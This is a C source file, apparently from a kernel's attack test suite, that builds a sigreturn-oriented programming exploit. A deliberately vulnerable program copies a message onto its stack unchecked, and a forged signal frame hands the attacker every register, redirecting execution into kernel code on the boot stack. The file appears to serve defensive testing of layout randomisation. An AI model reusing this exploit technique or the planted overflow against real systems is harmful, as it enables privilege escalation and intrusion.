/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * Sigreturn-oriented programming: a program that means no harm copies a message onto its stack without looking at its
 * length. The message returns into the program's own call of rt_sigreturn, with a signal frame that never was behind
 * it: so all registers are the attacker's, and a jump that the program has leads into the kernel.
 */
#include "attacks.h"

#include <kernel/systest.h>

/* The program's places, from its start. */
#define RESTORER 64
#define GADGET 96
#define BUFFER 64

/* RDI: the message, in the program's memory; RSI: its length. */
PROGRAM(copies, "call 1f\n" PROGRAM_EXIT ".balign 16\n"
		"1: subq $64, %rsp\n"
		"movq %rsi, %rcx\n"
		"movq %rdi, %rsi\n"
		"movq %rsp, %rdi\n"
		"rep movsb\n"
		"addq $64, %rsp\n"
		"ret\n"
		".org program_copies + 64\n"
		"movl $15, %eax\n syscall\n"
		".org program_copies + 96\n"
		"jmp *%rax\n");

/* The kernel's stack at boot, which nobody uses any more: the goal is to find a stack that is there. */
extern const char boot_stack[];
#define BOOT_STACK_SIZE 0x8000

/* What rt_sigreturn takes off the stack (x86-64 psABI of Linux: struct ucontext, struct sigcontext). */
struct message {
	uint8_t filling[BUFFER];
	uint64_t return_address;
	uint64_t flags, link, stack, stack_flags, stack_size;
	uint64_t r8, r9, r10, r11, r12, r13, r14, r15, rdi, rsi, rbp, rbx, rdx, rax, rcx, rsp, rip, rflags, selectors;
	uint64_t error, vector, oldmask, cr2, fpstate, reserved[8], mask;
	uint8_t info[128];
};

/* The program is started with its message where the whole of its memory is mapped. */
static bool send(const struct message *message, size_t len)
{
	static uint8_t image[PAGE_SIZE + sizeof(*message)];

	memcpy(image, program_copies, (size_t)(program_copies_end - program_copies));
	memcpy(image + PAGE_SIZE, message, sizeof(*message));
	return attack_program(image, sizeof(image), PROGRAM_DATA, len);
}

static bool benign(const struct attack *attack)
{
	struct message message = { .filling = "hello" };

	return send(&message, BUFFER);
}

static void forge(const struct attack *attack, uintptr_t slide)
{
	struct message message = { .return_address = PROGRAM_CODE + RESTORER,
				   .stack_flags = 2, /* disabled */
				   .rax = attack_linked_code(attack_goal) + slide,
				   .rsp = attack_linked(boot_stack) + BOOT_STACK_SIZE - 64 + slide,
				   .rip = PROGRAM_CODE + GADGET,
				   .selectors = 0x002b000000000033 };

	attack_primitive(attack);
	send(&message, sizeof(message));
}
ATTACK_BODY(forge)

ATTACK(sigreturn, .family = "sigreturn", .primitive = LINEAR_OVERFLOW, .knowledge = LAYOUT_KNOWN,
       .stopped_by = "layout", .about = "a forged signal frame on a program's stack", .run = run, .benign = benign,
       .adaptive = adaptive);
